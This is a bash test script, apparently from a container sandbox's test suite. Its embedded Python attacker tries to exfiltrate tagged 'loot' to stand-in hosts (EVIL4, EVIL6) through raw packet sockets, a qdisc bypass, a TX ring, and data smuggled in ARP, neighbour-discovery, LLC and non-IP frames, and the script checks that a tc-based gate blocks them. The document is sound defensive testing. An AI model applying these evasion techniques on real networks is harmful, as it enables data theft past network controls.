#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: sends frames of its own making by packet sockets: to anybody, to allowed destinations, past the queue, from a ring, and what is no IP at all
# stopped-by: tc
# reason: packet_socket
# kernels: all
#
# The sockets are older than the gate: where the kernel has the LSM hook, new ones cannot be made.
. "$(dirname "$0")/../interfaces/lib.sh"
container tcp/443 udp/9000
ALSO_FORBIDDEN="frame|ip6 58|ip4 1 "

attack_by <<'PYTHON'
from attacker import *
import mmap

SOL_PACKET, PACKET_QDISC_BYPASS, PACKET_TX_RING = 263, 20, 13
EVERYBODY, MAC = b"\xff" * 6, b"\2\0\0\0\0\7"

def packet_socket(kind=socket.SOCK_RAW):
    sock = socket.socket(socket.AF_PACKET, kind, 0)
    sock.bind(("eth0", 0))
    return sock

def frame(ethertype, packet):
    return EVERYBODY + MAC + struct.pack("!H", ethertype) + packet

def udp4(address, tag):
    return ip4(address, 17, udp_body(address, 9000, loot(tag)))

plain, cooked, bypass, ring = packet_socket(), packet_socket(socket.SOCK_DGRAM), packet_socket(), packet_socket()
bypass.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
ring.setsockopt(SOL_PACKET, PACKET_TX_RING, struct.pack("IIII", 4096, 1, 2048, 2))
slots = mmap.mmap(ring.fileno(), 4096)
ready()

with attempt("IPv4"):
    plain.send(frame(0x0800, udp4(EVIL4, "plain4")))
with attempt("IPv6"):
    plain.send(frame(0x86DD, ip6(EVIL6, 17, udp_body(EVIL6, 9000, loot("plain6")))))
with attempt("TCP"):
    plain.send(frame(0x0800, ip4(EVIL4, 6, tcp_body(EVIL4, 443, loot("tcp")))))
with attempt("allowed destinations"):
    plain.send(frame(0x0800, udp4(GOOD4, "good4")))
    plain.send(frame(0x86DD, ip6(GOOD6, 17, udp_body(GOOD6, 9000, loot("good6")))))
with attempt("SOCK_DGRAM"):
    cooked.sendto(udp4(EVIL4, "cooked"), ("eth0", 0x0800, 0, 0, EVERYBODY))
with attempt("PACKET_QDISC_BYPASS"):
    bypass.send(frame(0x0800, udp4(EVIL4, "bypass")))
with attempt("PACKET_TX_RING"):
    data = frame(0x0800, udp4(EVIL4, "ring"))
    slots[32:32 + len(data)] = data
    slots[0:12] = struct.pack("=QI", 1, len(data))
    ring.send(b"")
with attempt("no IP"):
    plain.send(frame(0x88B5, loot("experimental").ljust(60, b"\0")))
with attempt("LLC"):
    plain.send(EVERYBODY + MAC + struct.pack("!H", 46) + loot("llc").ljust(46, b"\0"))
with attempt("ARP with more behind it"):
    plain.send(frame(0x0806, struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + bytes(20) + loot("arp")))
with attempt("neighbour discovery with data"):
    body = struct.pack("!BBHI", 135, 0, 0, 0) + bytes(16) + loot("nd").ljust(32, b"\0")
    plain.send(frame(0x86DD, struct.pack("!IHBB", 6 << 28, len(body), 58, 255)
                     + socket.inet_pton(socket.AF_INET6, OWN6) + socket.inet_pton(socket.AF_INET6, EVIL6) + body))
PYTHON
works_once_open stolen:plain4 stolen:plain6 stolen:tcp stolen:good4 stolen:good6 stolen:cooked stolen:bypass \
	stolen:ring 'frame 0x88b5' 'frame 0x002e'
stopped_once_open gate
recorded tc packet_socket
